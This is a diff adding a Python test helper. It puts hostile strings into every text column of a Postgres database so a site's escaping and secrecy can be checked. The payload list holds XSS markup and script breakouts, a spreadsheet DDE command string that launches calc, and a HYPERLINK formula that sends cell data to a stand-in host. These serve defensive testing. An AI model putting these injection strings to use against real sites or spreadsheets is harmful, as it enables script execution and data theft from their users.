@@ -1,0 +1,154 @@
+"""Hostile text in every text column of every table, as the catalog has them."""
+
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+from psycopg import errors, sql
+
+from tests.schema.catalog import Catalog, read
+from tests.schema.rows import Rows
+
+#: Kinds of hostile text, each with the shorter ones that a narrow column gets.
+KINDS: dict[str, tuple[str, ...]] = {
+    # Out of an attribute, or out of an element.
+    "markup": (
+        "'\"></textarea></title><img src=x onerror=hit()><svg onload=hit()>",
+        "'\"><img src=x onerror=hit()>",
+        "<svg onload=hit()>",
+        "<b a='\">",
+        '<"',
+    ),
+    # Out of a script's string, or an address that is one.
+    "script": (
+        "javascript:hit()//</script><script>hit()</script>",
+        "</script><script>hit()",
+        "javascript:hit()",
+        "<script>",
+        "<!",
+    ),
+    # What formats, templates and spreadsheets take for theirs.
+    "format": (
+        '=HYPERLINK("http://x.example/"&A1,"{0}%s%(a)s{{ 7|add:7 }}{% csrf_token %}")',
+        "=cmd|' /C calc'!A0{0}%s{{ 7 }}",
+        "@SUM(A1){0}%s%(a)d",
+        "+1{0}%s",
+        "-1",
+    ),
+}
+#: What is never to be told, wherever it stands.
+SECRET = "S3CRET"
+
+
+@dataclass
+class Hostile:
+    """What was inserted: table to the row's key, and each column's text."""
+
+    kind: str
+    keys: dict[str, Any] = field(default_factory=dict)
+    texts: dict[tuple[str, str], str] = field(default_factory=dict)
+    #: Text columns in which a check of the database allows no such text.
+    left_out: set[tuple[str, str]] = field(default_factory=set)
+
+
+def text_of(kind: str, type_: str) -> Any:
+    """The longest text of a kind that a column of this type takes; None: it holds no text."""
+    longest = KINDS[kind][0]
+    if type_ == "text":
+        return longest
+    if type_ == "text[]":
+        return [longest, longest]
+    if type_ == "jsonb":
+        return {longest: longest, "list": [longest]}
+    if type_.startswith("character varying"):
+        bound = int(type_.removeprefix("character varying(").removesuffix(")"))
+        return next(text for text in KINDS[kind] if len(text) <= bound)
+    return None
+
+
+def insert(
+    cursor: Any, kind: str, secrets: dict[str, frozenset[str]], adapt: Callable[[Any], Any]
+) -> Hostile:
+    """A row in each of the 28 tables, all of them about each other, with hostile text.
+
+    `secrets` are the columns of each table that get a text by which they are known in an answer;
+    `adapt` makes a dictionary what the driver takes for jsonb.
+    """
+    catalog = read(cursor)
+    rows = Rows(cursor, catalog)
+    made = Hostile(kind)
+    for table in _parents_first(catalog):
+        columns = catalog.tables[table].columns
+        keys = {key.column: made.keys.get(key.target)
+                for key in catalog.foreign_keys if key.table == table}  # fmt: skip
+        made.keys[table] = rows.insert(table, **{name: key for name, key in keys.items() if key})
+        for name, column in columns.items():
+            text = text_of(kind, column.type)
+            if name in secrets.get(table, ()):
+                text = f"{SECRET} {kind} {table} {name}"
+            if text is None:
+                continue
+            if _update(cursor, table, name, made.keys[table], adapt(text)):
+                made.texts[table, name] = str(text)
+            else:
+                made.left_out.add((table, name))
+    # A comment that answers itself: so that its answer is shown too.
+    cursor.execute("UPDATE public.track_comments SET parent_id = id WHERE id = %s",
+                   [made.keys["track_comments"]])  # fmt: skip
+    return made
+
+
+def _parents_first(catalog: Catalog) -> Iterator[str]:
+    done: set[str] = set()
+    while waiting := [table for table in catalog.tables if table not in done]:
+        for table in waiting:
+            targets = {key.target for key in catalog.foreign_keys if key.table == table}
+            if targets - done <= {table}:
+                done.add(table)
+                yield table
+
+
+def _update(cursor: Any, table: str, column: str, key: Any, text: Any) -> bool:
+    """Put a text into a column; False when a check does not allow it."""
+    cursor.execute("SAVEPOINT hostile")
+    try:
+        cursor.execute(
+            sql.SQL("UPDATE public.{} SET {} = %s WHERE id = %s").format(
+                sql.Identifier(table), sql.Identifier(column)
+            ),
+            [text, key],
+        )
+    except Exception as error:
+        if not isinstance(error.__cause__ or error, errors.CheckViolation):
+            raise
+        cursor.execute("ROLLBACK TO SAVEPOINT hostile")
+        return False
+    return True
+
+
+def remember(cursor: Any, made: Hostile, adapt: Callable[[Any], Any]) -> None:
+    """An entry of the staff log and a note about each of the rows, with hostile text too."""
+    for log in ("veza_site_stafflogentry", "veza_site_note"):
+        cursor.execute(
+            "SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute"
+            " WHERE attrelid = %s::regclass AND attnum > 0 AND NOT attisdropped",
+            [f"django.{log}"],
+        )
+        types = dict(cursor.fetchall())
+        for table, key in made.keys.items():
+            values = {name: text_of(made.kind, type_) for name, type_ in types.items()}
+            values |= {name: made.keys["users"] for name in types if name in PEOPLE}
+            values |= {"subject_table": table, "subject_id": str(key)}
+            given = {name: adapt(value) for name, value in values.items() if value is not None}
+            names = sql.SQL(", ").join(map(sql.Identifier, given))
+            places = sql.SQL(", ").join([sql.Placeholder()] * len(given))
+            cursor.execute(
+                sql.SQL("INSERT INTO django.{} ({}) VALUES ({})").format(
+                    sql.Identifier(log), names, places
+                ),
+                list(given.values()),
+            )
+
+
+#: Who did or wrote it.
+PEOPLE = ("staff_id", "author_id")
